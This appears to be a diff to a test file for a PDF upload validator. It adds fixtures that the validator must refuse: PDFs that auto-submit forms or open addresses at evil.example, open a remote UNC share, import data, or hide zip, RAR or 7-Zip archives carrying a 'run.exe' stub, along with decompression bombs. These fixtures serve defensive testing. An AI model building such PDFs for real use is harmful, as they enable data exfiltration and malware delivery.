@@ -1,7 +1,8 @@
 import { deflateSync } from 'node:zlib'
 import { expect, test } from 'vitest'
-import { objectStream, objectsOf, pdfOf, protectedPdf, stream } from '#test/pdf.ts'
+import { objectStream, objectsOf, pdfOf, protectedPdf, stream, written } from '#test/pdf.ts'
 import { protectedOld } from '#test/pdf-protected.ts'
+import { zipOf } from '#test/word.ts'
 import { sentences } from './finding.ts'
 import { look } from './look.ts'
 import { pdf } from './pdf.ts'
@@ -103,14 +104,11 @@ test.each(['RC4-128', 'AES-128'] as const)(
   },
 )
 
-test('what cannot be read is refused: cut off, scrambled, empty, endless, nested, inflating', async () => {
-  const good = pdfOf()
+test('what cannot be read is refused: scrambled, endless, nested, inflating', async () => {
   const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`
   const bomb = deflateSync(Buffer.alloc(200 * 1024 * 1024))
   const bytes = [
-    Buffer.from('%PDF-1.7\n'),
-    good.subarray(0, 80),
-    Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(1000, 0x3c)]),
+    Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(1000, 0x3c), Buffer.from('\n%%EOF')]),
     pdfOf({ catalog: `/Deep ${deep}` }),
     pdfOf({ more: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)] }),
     pdfOf({ more: [stream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', 'aa>')] }),
@@ -120,7 +118,66 @@ test('what cannot be read is refused: cut off, scrambled, empty, endless, nested
 })
 
 test('a document made to take for ever is given up; one that is only long is not', async () => {
-  const slow = Buffer.concat([pdfOf(), Buffer.from('/S%'.repeat(200_000))])
+  const slow = Buffer.concat([pdfOf(), Buffer.from(`${'/S%'.repeat(200_000)}\n%%EOF\n`)])
   expect(await look(slow, 0.001)).toBe('damaged')
   expect(await taken(slow)).toBe(true)
+})
+
+const submit = '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>'
+const importData = '<< /S /ImportData /F (a.fdf) >>'
+const remote = '<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'
+const address = '<< /S /URI /URI (https://evil.example) >>'
+
+test.each([
+  ['that submits a form', pdfOf({ page: link(submit) })],
+  ['that submits, in a packed object', pdfOf({ page: link('6 0 R'), more: [objectStream([[6, submit]])] })],
+  ['that imports data', pdfOf({ page: link(importData) })],
+  ['that opens another document', pdfOf({ page: link(remote) })],
+  ['that opens an address with the document', pdfOf({ catalog: `/OpenAction ${address}` })],
+  ['the same, elsewhere', pdfOf({ catalog: '/OpenAction 5 0 R', more: [address] })],
+  ['that opens an address with a page', pdfOf({ page: '/AA << /O 5 0 R >>', more: [address] })],
+  [
+    'after another action',
+    pdfOf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>', more: [address] }),
+  ],
+  [
+    'in a packed object',
+    written(objectsOf({ catalog: '/OpenAction 6 0 R', more: [objectStream([[6, address]])] }), '', [
+      { number: 6, within: 5, index: 0 },
+    ]),
+  ],
+] as const)('refused: one %s', async (_, bytes) => {
+  expect(await taken(bytes)).toBe(sentences.remote)
+})
+
+test('links in the text, a first page to show and a plain form are fine', async () => {
+  const fine = [
+    pdfOf({ page: link(address), catalog: '/OpenAction [3 0 R /XYZ null null 0]' }),
+    pdfOf({
+      catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>',
+      page: link('<< /S /GoTo /D [3 0 R /Fit] >>'),
+    }),
+    pdfOf({ catalog: '/AcroForm << /Fields [5 0 R] >>', more: ['<< /FT /Tx /T (Name) /V (Maria) >>'] }),
+    // Some scanners and mail programs fill up the last block.
+    Buffer.concat([pdfOf(), Buffer.alloc(4_000)]),
+  ]
+  for (const bytes of fine) expect(await taken(bytes)).toBe(true)
+})
+
+test('one whose end is missing is refused with what to do', async () => {
+  const whole = pdfOf({ more: [stream('', 'x'.repeat(5_000))] })
+  for (const length of [9, 80, whole.length - 1_000, whole.length - 10])
+    expect(await taken(whole.subarray(0, length))).toBe(sentences['cut off'])
+  // One made for the web has an end near its beginning, too, and says how long it is.
+  const linear = pdfOf({ more: ['<< /Linearized 1 /L 999999 /H [ 1 2 ] /O 3 /E 4 /N 1 /T 5 >>'] })
+  expect(await taken(linear)).toBe(sentences['cut off'])
+})
+
+test.each([
+  ['a zip at its end', Buffer.concat([pdfOf(), zipOf({ 'run.exe': 'MZ' }), Buffer.from('\n%%EOF')])],
+  ['a zip within a stream', pdfOf({ more: [stream('', zipOf({ 'run.exe': 'MZ' }))] })],
+  ['a RAR', Buffer.concat([pdfOf(), Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), Buffer.from('\n%%EOF')])],
+  ['a 7-Zip', Buffer.concat([pdfOf(), Buffer.from('377abcaf271c', 'hex'), Buffer.from('\n%%EOF')])],
+] as const)('refused: one that is also %s', async (_, bytes) => {
+  expect(await taken(bytes)).toBe(sentences.archive)
 })
